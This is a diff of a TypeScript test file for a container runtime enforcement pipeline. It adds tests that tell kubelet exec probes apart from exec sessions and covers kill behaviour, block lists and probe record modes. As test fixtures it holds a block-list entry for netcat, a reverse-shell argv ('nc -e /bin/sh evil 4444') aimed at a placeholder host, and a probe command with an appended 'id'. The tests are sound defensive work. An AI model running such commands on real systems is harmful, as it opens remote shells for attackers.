@@ -21,7 +21,7 @@ function snapshot(pid: number, ppid: number, startTicks: number, exe: string, ar
 }
 const spawn = (s: ProcSnapshot, at = 1_000): CaptureEvent => ({ type: "spawn", snapshot: s, detection: "trigger", observedAt: at, image: "exec" });
 
-function setup(inForce = new PolicyHolder(defaultPolicy())) {
+function setup(inForce = new PolicyHolder(defaultPolicy()), probes: Record<string, string[][]> = {}) {
   let now = 1_000;
   let stdio: StdioSockets = { inet: new Map() };
   const kills: Array<[number, number]> = [];
@@ -36,6 +36,7 @@ function setup(inForce = new PolicyHolder(defaultPolicy())) {
       },
     },
     now: () => now,
+    probes,
   });
   return {
     pipeline,
@@ -123,5 +124,57 @@ describe("WatchPipeline", () => {
     const records = pipeline.recheck();
     assert.deepEqual(kinds(records), ["policy.violation alert"]);
     assert.equal(records[0]!.attributes["microenforcer.control"], "reverseShell");
+  });
+
+  describe("the kubelet's exec probes", () => {
+    const probe = ["/bin/sh", "-c", "test -f /tmp/ready"];
+    const probes = { app: [probe] };
+    const enforce = (forensics = "") => new PolicyHolder(policy(`  enforcementMode: enforce\n${forensics}  controls: {containerExec: {block: true}, executables: {blocked: ['**/nc']}}`));
+    const init = spawn(snapshot(10, 0, 100, "/usr/bin/app", ["app"], { container: "app" }));
+    const run = (pid: number, args = probe, container = "app") => spawn(snapshot(pid, 0, pid * 10, "/bin/sh", args, { container }));
+    const end = (pid: number): CaptureEvent => ({ type: "exit", pid, startTicks: pid * 10, observedAt: 2_000 });
+
+    it("a PPID-0 process running exactly one of its container's probes is a probe, never a containerExec finding or kill", () => {
+      const { feed, kills } = setup(enforce("  forensics: {probes: record}\n"), probes);
+      const records = feed(init, run(20), end(20));
+      assert.deepEqual(kinds(records), ["process.exec 10", "process.exec 20", "process.exit 20"]);
+      assert.equal(records[1]!.attributes["microenforcer.exec.origin"], "probe");
+      assert.deepEqual(kills, []);
+    });
+
+    it("the same argv in another container, or another argv, is an exec session: found and killed", () => {
+      const { feed, kills } = setup(enforce(), probes);
+      feed(init, spawn(snapshot(30, 0, 101, "/usr/bin/db", ["db"], { container: "db" })));
+      const records = feed(run(40, probe, "db"), run(41, ["/bin/sh", "-c", "test -f /tmp/ready; id"]), run(42, ["/bin/sh", "-c", "test -f /tmp/ready "]));
+      assert.deepEqual(
+        records.filter((r) => r.attributes["microenforcer.control"] === "containerExec").map((r) => r.attributes["process.pid"]),
+        [40, 41, 42],
+      );
+      assert.deepEqual(kills, [[40, 400], [41, 410], [42, 420]]);
+    });
+
+    it("other controls still apply to what a probe runs", () => {
+      const { feed, kills } = setup(enforce(), probes);
+      const records = feed(init, run(20), spawn(snapshot(21, 20, 210, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "evil", "4444"])));
+      assert.deepEqual(kinds(records), ["process.exec 10", "process.exec 20", "process.exec 21", "policy.violation killed"]);
+      assert.deepEqual(kills, [[21, 210]]);
+    });
+
+    it("summarize (the default): one exec record per probe command per 10 min, with the runs it stands for; no exit records", () => {
+      const { feed, advance } = setup(new PolicyHolder(defaultPolicy()), probes);
+      feed(init);
+      const first = feed(run(20), end(20), run(21), end(21), run(22), end(22));
+      assert.deepEqual(kinds(first), ["process.exec 20"]);
+      assert.equal(first[0]!.attributes["microenforcer.probe.runs"], 1);
+      advance(10 * 60 * 1000);
+      const next = feed(run(23), end(23));
+      assert.deepEqual(kinds(next), ["process.exec 23"]);
+      assert.equal(next[0]!.attributes["microenforcer.probe.runs"], 3, "22, 21 and this one");
+    });
+
+    it("off: no record of the probe itself", () => {
+      const { feed } = setup(new PolicyHolder(policy("  forensics: {probes: off}")), probes);
+      assert.deepEqual(kinds(feed(init, run(20), end(20))), ["process.exec 10"]);
+    });
   });
 });
